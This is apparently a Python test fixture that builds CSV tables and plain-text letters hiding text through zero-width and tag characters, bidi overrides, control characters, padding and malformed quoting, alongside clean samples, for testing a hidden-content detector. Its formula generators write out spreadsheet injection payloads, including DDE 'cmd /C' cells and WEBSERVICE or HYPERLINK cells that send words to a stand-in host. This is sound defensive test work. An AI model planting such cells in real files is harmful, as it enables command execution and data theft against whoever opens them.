"""Tables and texts that hold what nobody sees, and as offices write them."""

from __future__ import annotations

import base64

from tests.leaks.forms import Clean, Leak

MONTHS = ("January", "February", "March", "April", "May", "June", "July", "August", "September", "October")


def table(number: int, extra: str = "", row: int = 3, column: int = 1, *, ending: str = "") -> str:
    """A table of figures whose cell at `row` and `column` is `extra`, written in one of several ways."""
    delimiter = ",;\t"[number % 3]
    rows = [["Month", "Offence", "Recorded", "Detected"]]
    rows += [[month, "Burglary", str(100 + 7 * at), str(20 + at)] for at, month in enumerate(MONTHS)]
    if extra:
        rows[row][column] = extra
    return written(rows, delimiter, ending or ("\r\n" if number % 2 else "\n"), mark=number % 4 == 3)


def written(rows: list[list[str]], delimiter: str = ",", ending: str = "\r\n", *, mark: bool = False) -> str:
    """Rows as CSV."""

    def cell(said: str) -> str:
        return '"' + said.replace('"', '""') + '"' if any(each in said for each in delimiter + '"\r\n') else said

    return "\ufeff" * mark + "".join(delimiter.join(map(cell, row)) + ending for row in rows)


def formula(number: int, words: str) -> bytes:
    """A cell that is run: plain, after spaces, quotes, in wide letters, after a line."""
    begun = ("=", "@", "+", "-", "\t=", "\r=", " =", '"=', "\uff1d", "\xa0=")[number]
    return table(number, f'{begun}SUM(A1:A9)&"{words}"', row=1 + number, column=number % 4).encode()


def formula_later(number: int, words: str) -> bytes:
    """A cell that another program, which splits the table elsewhere, would run."""
    between = ("\n", ";", "\t", "\r\n", "; ")[number % 5]
    begun = "=" if number < 5 else "@"
    return table(number, f"seen{between}{begun}EXEC({words})", row=1 + number).encode()


def formula_reaching(number: int, words: str) -> bytes:
    """A cell that reaches another program, website or file."""
    said = (
        f'=HYPERLINK("https://example.org/?{words}","click")',
        f"=cmd|' /C calc {words}'!A0",
        f"+cmd|' /C calc {words}'!A0",
        f"-2+3+cmd|' /C calc {words}'!A0",
        f'=WEBSERVICE("https://example.org/{words}")',
        f'@SUM(1+1)*cmd|" /C {words}"!A0',
        f'=IMPORTXML("https://example.org","{words}")',
        f'=DDE("cmd";"{words}";"1")',
        f"='[{words}.xlsx]Sheet1'!A1",
        f'-HYPERLINK ("https://example.org/{words}")',
    )[number]
    return table(number, said, row=1 + number, column=number % 4).encode()


def unseen(number: int, words: str) -> str:
    """Words with characters of no width between their letters, or said by such characters alone."""
    mark = "\u200b\u2060\u00ad\ufeff\u200d\u034f\u3164\u2800\U000e0101\u180e"[number]
    if number % 2:
        return mark.join(words)
    bits = "".join(f"{ord(letter):08b}" for letter in words)
    return "Wrexham" + "".join(mark + "\u200c" if bit == "1" else mark for bit in bits)


def tagged(number: int, words: str) -> str:
    """Words in the unseen alphabet of tags, after plain words or a flag."""
    before = ("Wrexham", "\U0001f3f4", "", "Ynys Môn ", "5")[number % 5]
    return before + "".join(chr(0xE0000 + ord(letter)) for letter in words) + "\U000e007f" * (number % 2)


def turned(number: int, words: str) -> str:
    """Words whose order is turned."""
    mark = "\u202e\u202d\u2066\u2067\u2068\u202a\u202b\u202e\u2067\u202d"[number]
    return f"Wrexham {mark}{words[::-1]}\u202c"


def control(number: int, words: str) -> str:
    """Control characters: a terminal's colours, backspaces, ends of files."""
    mark = ("\x1b[8m", "\x08", "\x1a", "\x7f", "\x9b8m", "\x01", "\x0c", "\x85", "\x0b", "\x1f")[number]
    return f"Wrexham{mark}{words}"


def padded(number: int, words: str) -> str:
    """Words after a long blank space."""
    return ("Wrexham" if number % 2 else "") + (" ", "\xa0", "\u3000", "\u2003")[number % 4] * (150 + number) + words


def coded(number: int, words: str) -> str:
    """A file in coded form."""
    data = base64.b64encode((words * (10 + number)).encode()).decode()
    return ("data:image/png;base64," if number % 2 else "") + data


def far_column(number: int, words: str) -> bytes:
    """A cell far to the right of the rest."""
    text = table(number * 3)
    lines = text.split("\n")
    end = "\r" if lines[0].endswith("\r") else ""
    rows = [line.removesuffix("\r") + "," * (12 + 40 * number) + end for line in lines[:-1]]
    at = 1 + number
    rows[at] = rows[at].removesuffix("\r") + words + end
    return ("\n".join(rows) + "\n").encode()


def far_row(number: int, words: str) -> bytes:
    """A row after many blank ones, which have commas or not."""
    blank = "\n" if number % 2 else ",,,\n"
    return (table(number * 6) + blank * (60 + 200 * number) + f"{words},1,2,3\n").encode("utf-8")


def ragged(number: int, words: str) -> bytes:
    """A row with more cells than the table has."""
    lines = table(number * 3).split("\n")
    end = "\r" if lines[0].endswith("\r") else ""
    at = 1 + number % 10
    lines[at] = lines[at].removesuffix("\r") + "," * (1 + number % 3) + words + end
    return "\n".join(lines).encode()


def long_cell(number: int, words: str) -> bytes:
    """A cell that is longer than programs show."""
    return table(number, "Theft in the town. " * (1_800 + 50 * number) + words, row=1 + number).encode()


def quotes(number: int, words: str) -> bytes:
    """Quotation marks that do not match, so that rows are swallowed."""
    lines = table(number * 3).split("\n")
    at = 1 + number % 9
    lines[at] = f'"{words}' + ("" if number % 2 else '" more') + "," + lines[at]
    return "\n".join(lines).encode()


def letter(number: int, words: str) -> bytes:
    """A letter in plain text with the words in one of its lines."""
    lines = ["Dear requester,", "", "You asked for figures.", "They are below.", "", "Yours faithfully", "FOI team"]
    lines[number % 7] += " " + words if number % 2 else words
    return ("\ufeff" * (number % 3 == 1) + ("\r\n" if number % 2 else "\n").join(lines)).encode()


def far_line(number: int, words: str) -> bytes:
    """A line after many blank ones."""
    return letter(0, "") + (b"\r\n" if number % 2 else b"\n") * (70 + 100 * number) + words.encode()


def cells(name: str, code: str, make, *, hidden: bool = True) -> list[Leak]:
    """The way in a table and in a text."""
    return [
        Leak(
            f"{name} in a table",
            ".csv",
            (code,),
            lambda number, words: table(number, make(number, words)).encode(),
            hidden=hidden,
        ),
        Leak(
            f"{name} in a text",
            ".txt",
            (code,),
            lambda number, words: letter(number, make(number, words)),
            hidden=hidden,
        ),
    ]


LEAKS = [
    Leak("formula", ".csv", ("DL119",), formula, hidden=False),
    Leak("formula after a line or semicolon", ".csv", ("DL119",), formula_later, hidden=False),
    Leak("formula that reaches out", ".csv", ("DL119",), formula_reaching, hidden=False),
    *cells("characters of no width", "DL101", unseen, hidden=False),
    *cells("unseen alphabet", "DL101", tagged),
    *cells("turned order", "DL101", turned),
    *cells("control characters", "DL101", control, hidden=False),
    *cells("blank space before words", "DL101", padded),
    *cells("coded file", "DL101", coded),
    Leak("far column", ".csv", ("DL101",), far_column),
    Leak("far row", ".csv", ("DL101",), far_row),
    Leak("longer row", ".csv", ("DL101",), ragged),
    Leak("long cell", ".csv", ("DL101",), long_cell),
    Leak("quotation marks", ".csv", ("DL043",), quotes),
    Leak("far line", ".txt", ("DL101",), far_line),
]


def figures(number: int) -> bytes:
    """Figures with minus signs, percentages, money, dashes and remarks that begin with a dash."""
    rows = [["Year", "Change", "Cost", "Remark"]]
    said = ("-5", "-12.5%", "+3", "-£1,234.50", "-", "--", "- not recorded", "-1.2E-3", "£-5", "(5)", "+/- 2%", "-ve")
    rows += [[str(2010 + at), each, f"£{at},000.00", f"- see note {at} (below)"] for at, each in enumerate(said)]
    return written(rows, ",;\t"[number], mark=number == 1).encode()


def telephones(_number: int) -> bytes:
    """Telephone numbers of an office, in international form."""
    said = ("+44 3069 990001", "+44 (0)3069 990002", "+443069990003", "03069 990004", "+44-3069-990-005", "101")
    return written([["Office", "Telephone"], *[[f"Office {at}", each] for at, each in enumerate(said)]]).encode()


def welsh(number: int) -> bytes:
    """Welsh words, with letters that can be composed, flags and typographic marks."""
    rows = [["Ardal", "Nifer", "Sylw"], ["Ynys Môn", "12", "“Dim”"], ["Dŵr Cymru", "3", "tŷ a gŵydd"]]
    rows += [["Llanfair-yng-Nghornwy", "4", "tŷ \u2013 gwyn"]]
    rows += [
        [
            "Cymru \U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f",
            "5",
            "\u2764\ufe0f \U0001f469\u200d\U0001f692",
        ]
    ]
    return written(rows, mark=number == 1).encode()


def quoted(number: int) -> bytes:
    """Cells with quotation marks, commas and lines of their own, and a title above the table."""
    rows = [["FOI 702: theft", "", ""], ["", "", ""], ["Category", "Count", "Note"]]
    rows += [
        ['Theft, "other"', "5", "First line\nsecond line"],
        ["5 inch", "6", 'a 6" blade'],
        ["A=B", "<5", "e.g. x at example.org"],
    ]
    return written(rows, ending="\n" if number else "\r\n").encode()


def two_tables(number: int) -> bytes:
    """Two tables below each other, the second wider, with blank rows between."""
    second = "Year,A,B,C,D\n2020,1,2,3,4\n2021,5,6,7,8\n"
    return (table(0) + "\n" * (2 + number) + second).encode()


CLEAN = [
    Clean("figures with minus signs", ".csv", figures, 3),
    Clean("telephone numbers", ".csv", telephones),
    Clean("Welsh", ".csv", welsh, 2),
    Clean("quotation marks", ".csv", quoted, 2),
    Clean("two tables", ".csv", two_tables, 2),
    Clean("table", ".csv", lambda number: table(number).encode(), 8),
    Clean("letter", ".txt", lambda number: letter(number, ""), 4),
    Clean(
        "columns in a text", ".txt", lambda _number: b"Offence" + b" " * 60 + b"Count\n" + b"Theft" + b" " * 62 + b"5\n"
    ),
    Clean("empty table", ".csv", lambda _number: b""),
]
